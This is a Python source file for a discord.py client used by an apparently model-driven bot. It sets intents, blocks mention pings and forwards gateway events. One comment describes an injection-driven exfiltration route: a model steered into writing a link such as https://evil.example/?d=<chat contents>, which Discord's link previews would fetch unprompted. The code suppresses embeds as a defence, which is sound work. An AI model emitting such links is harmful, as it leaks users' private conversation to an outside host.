"""The discord.py Client the adapter runs: intents, no-ping defaults, events forwarded.

A subclass rather than ``@client.event`` callbacks so every event handler is a typed
method, and so the delay before a fresh IDENTIFY (discord.py's documented
``before_identify_hook``; Discord asks for 1-5 s after an invalidated session) is a
constructor argument that tests can shrink.
"""

from __future__ import annotations

import asyncio
from typing import Protocol

import discord


def intents(*, content: bool = True) -> discord.Intents:
    """Guilds (channels, threads), guild and DM messages, and (``content``) their text: the
    privileged "Message Content Intent" switch in the Developer Portal."""
    wanted = discord.Intents.none()
    wanted.guilds = True
    wanted.guild_messages = True
    wanted.dm_messages = True
    wanted.message_content = content
    return wanted


# A model-written "@everyone", role or user mention must never ping anyone, and a reply
# does not ping the person asked: the answer is in front of them already.
NO_PINGS = discord.AllowedMentions(everyone=False, roles=False, users=False, replied_user=False)
# Discord's servers fetch every link a message carries to embed it, with no one
# clicking: a model steered into writing https://evil.example/?d=<what the chat said>
# would leak it on its own. The bot's messages are posted with embeds suppressed (the
# flag stays through edits).
SUPPRESS_EMBEDS = discord.MessageFlags(suppress_embeds=True).value


class GatewayEvents(Protocol):
    async def on_gateway_message(self, message: discord.Message) -> None: ...

    def on_gateway_state(self, up: bool) -> None: ...

    async def on_gateway_up(self) -> None: ...


class GatewayClient(discord.Client):
    def __init__(
        self,
        events: GatewayEvents,
        *,
        intents: discord.Intents,
        identify_delay_s: float = 5.0,
        guild_ready_timeout: float = 2.0,
    ) -> None:
        # The bot does no voice: skip discord.py's warnings about missing voice libraries.
        discord.VoiceClient.warn_nacl = discord.VoiceClient.warn_dave = False
        super().__init__(
            intents=intents,
            allowed_mentions=NO_PINGS,
            max_ratelimit_timeout=30.0,  # a longer 429 wait fails the send; the outbox retries
            guild_ready_timeout=guild_ready_timeout,
            chunk_guilds_at_startup=False,
        )
        self._events = events
        self._identify_delay_s = identify_delay_s

    async def before_identify_hook(self, shard_id: int | None, *, initial: bool = False) -> None:
        if not initial:
            await asyncio.sleep(self._identify_delay_s)

    async def on_connect(self) -> None:
        await self._events.on_gateway_up()

    async def on_resumed(self) -> None:
        await self._events.on_gateway_up()

    async def on_disconnect(self) -> None:
        self._events.on_gateway_state(False)

    async def on_message(self, message: discord.Message) -> None:
        await self._events.on_gateway_message(message)
